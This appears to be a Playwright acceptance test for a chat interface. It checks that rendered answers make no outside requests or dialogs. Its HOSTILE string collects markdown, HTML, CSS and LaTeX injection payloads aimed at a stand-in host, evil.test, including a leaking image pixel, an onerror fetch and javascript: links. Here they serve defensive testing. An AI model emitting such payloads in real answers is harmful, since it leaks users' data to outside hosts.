/** Acceptance 46: nothing in an answer makes the browser ask anybody for anything. */
import { expect, test } from "./support/test";

const HOSTILE = String.raw`/echo ![pixel](https://evil.test/p.png?leak=1)

<img src="https://evil.test/i.png"> <img src=x onerror="fetch('https://evil.test/js')">

<style>@import url(https://evil.test/s.css); body { background: url(https://evil.test/b.png) }</style>

<link rel="preload" as="image" href="https://evil.test/l.png"><iframe src="https://evil.test/f"></iframe>

<video src="https://evil.test/v.mp4" autoplay></video><object data="https://evil.test/o"></object>

[script](javascript:fetch('https://evil.test/l')) [data](data:text/html,x) [fine](https://evil.test/page)

![by reference][r] https://evil.test/bare

[r]: https://evil.test/r.png

$\includegraphics{https://evil.test/k.png}$ $\href{javascript:alert(1)}{x}$ $\htmlStyle{background:url(https://evil.test/h.png)}{y}$

| a |
|---|
| ![in a table](https://evil.test/t.png) |
`;

for (const [name, prompt] of [
  ["the demo's hostile answer", "/hostile"],
  ["a slow hostile answer, so that every half of it is rendered", "/slow /hostile"],
  ["our own collection", HOSTILE],
] as const) {
  test(`acceptance 46: ${name} makes no request`, async ({ chat, page, baseURL }) => {
    test.slow();
    const foreign: string[] = [];
    const dialogs: string[] = [];
    page.on("request", (request) => {
      const url = request.url();
      if (!url.startsWith(String(baseURL)) && !/^(data|blob):/.test(url)) foreign.push(url);
    });
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await chat.ask(prompt);
    await page.reload();
    await expect(chat.text).not.toBeEmpty();
    await chat.settled();
    // A link preview or a prefetch would come on hover.
    for (const link of await chat.answer.locator("a").all()) await link.hover();
    expect(foreign).toEqual([]);
    expect(dialogs).toEqual([]);
    const inside = chat.answer.locator(".markdown");
    await expect(
      inside.locator("img, iframe, video, audio, object, embed, link, style, script, form"),
    ).toHaveCount(0);
    for (const link of await inside.locator("a").all()) {
      expect(await link.getAttribute("href")).toMatch(/^(https?:|mailto:)/);
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    }
  });
}

test("an image in an answer is a chip with its description", async ({ chat }) => {
  await chat.ask("/echo ![A chart of sales](https://evil.test/p.png)");
  await expect(chat.answer.getByRole("link", { name: "A chart of sales" })).toBeVisible();
});
